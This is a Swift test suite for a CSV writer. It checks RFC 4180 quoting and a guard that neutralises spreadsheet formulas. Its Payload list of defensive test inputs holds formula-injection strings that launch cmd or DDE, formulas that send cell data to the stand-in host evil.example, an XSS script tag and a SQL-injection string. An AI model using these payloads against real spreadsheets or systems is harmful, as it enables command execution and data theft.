import Tabular
import Testing

@Suite struct CSVWriterTests {
    @Test func `quotes stand where RFC 4180 asks for them`() {
        var writer = CSVWriter(.machine)
        writer.write(["a", "b,c", "d\"e", "f\ng", " h", ""])
        #expect(String(decoding: writer.bytes, as: UTF8.self) == "a,\"b,c\",\"d\"\"e\",\"f\ng\",\" h\",\r\n")
    }

    @Test func `a spreadsheet's file has a mark and guards formulas`() {
        var writer = CSVWriter()
        writer.write(["=1+1", "plain"])
        #expect(writer.takeBytes() == [0xef, 0xbb, 0xbf] + Array("'=1+1,plain\r\n".utf8))
        writer.write(["x"])
        #expect(writer.takeBytes() == Array("x\r\n".utf8))
    }

    @Test("no cell begins a formula", arguments: Payload.all)
    func hostile(_ payload: String) throws {
        for delimiter in CSVDelimiter.allCases {
            var writer = CSVWriter(.init(delimiter: delimiter, writesByteOrderMark: true))
            writer.write(["first", "second", "third"])
            writer.write([payload, "x", payload])
            let row = try #require(try rows(writer.bytes, delimiter: delimiter).last)
            let begin: Set<Unicode.Scalar> = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
            #expect(row.fields.allSatisfy { cell in cell.unicodeScalars.first.map { !begin.contains($0) } ?? true })
            #expect(row.fields.map(FormulaGuard.unguarded) == [payload, "x", payload])
        }
    }

    @Test("comes back byte by byte without a guard", arguments: Payload.all)
    func exact(_ payload: String) throws {
        for endsWithCarriageReturn in [true, false] {
            var writer = CSVWriter(.init(endsLinesWithCarriageReturn: endsWithCarriageReturn, guardsFormulas: false))
            writer.write(["a", "b"])
            writer.write([payload, "x"])
            #expect(try rows(writer.bytes).last?.fields == [payload, "x"])
        }
    }

    @Test func `a guard comes off exactly once`() {
        for text in ["=1", "'=1", "''=1", "'", "''", "'plain", "plain", "", "'-", "-"] {
            #expect(FormulaGuard.unguarded(FormulaGuard.guarded(text)) == text)
            #expect(
                FormulaGuard.unguarded(FormulaGuard.guarded(FormulaGuard.guarded(text))) == FormulaGuard.guarded(text))
        }
        #expect(FormulaGuard.guarded("O'Brien") == "O'Brien")
        #expect(FormulaGuard.unguarded("'t Hart") == "'t Hart")
    }
}

/// Texts that attack spreadsheets, readers or readers of what writers wrote.
enum Payload {
    static let all: [String] = formulas.flatMap { formula in wrappers.map { $0(formula) } } + others

    private static let formulas = [
        "=1+1", "=cmd|'/C calc'!A0", "+447123456789", "-2+3+cmd|' /C calc'!D2", "@SUM(1+1)*cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")", "=IMPORTXML(\"http://evil.example\",\"//a\")",
        "=WEBSERVICE(\"http://evil.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=1;2|3\t4,5", "-", "+", "=", "@",
        "＝1+1", "＋1", "－1", "＠SUM(A1)", "=\"a\"\"b\"", "=A1\n=B1", "=\u{301}1", "=𝄞",
    ]

    private static let wrappers: [@Sendable (String) -> String] = [
        { $0 }, { "'" + $0 }, { "''" + $0 }, { "\t" + $0 }, { "\r" + $0 }, { "\n" + $0 }, { "\r\n" + $0 },
        { "\"" + $0 },
        { "\"" + $0 + "\"" }, { "x,\n" + $0 },
    ]

    private static let others = [
        "\"", "\"\"", "\"\"\"", ",", ";", "|", "\t", "\r", "\n", "\r\n", "'", " ", "  x  ", "a\"b", "a,b", "a;b", "a|b",
        "sep=;", "ID", "O'Brien", "Ünïcödé", "日本語", "\u{202e}txt", "\u{200b}", "👩‍👩‍👧", "<script>alert(1)</script>", "%00",
        "\\", "\\\"", "NULL", "1e9", "0x41", "'; DROP TABLE person; --",
    ]
}
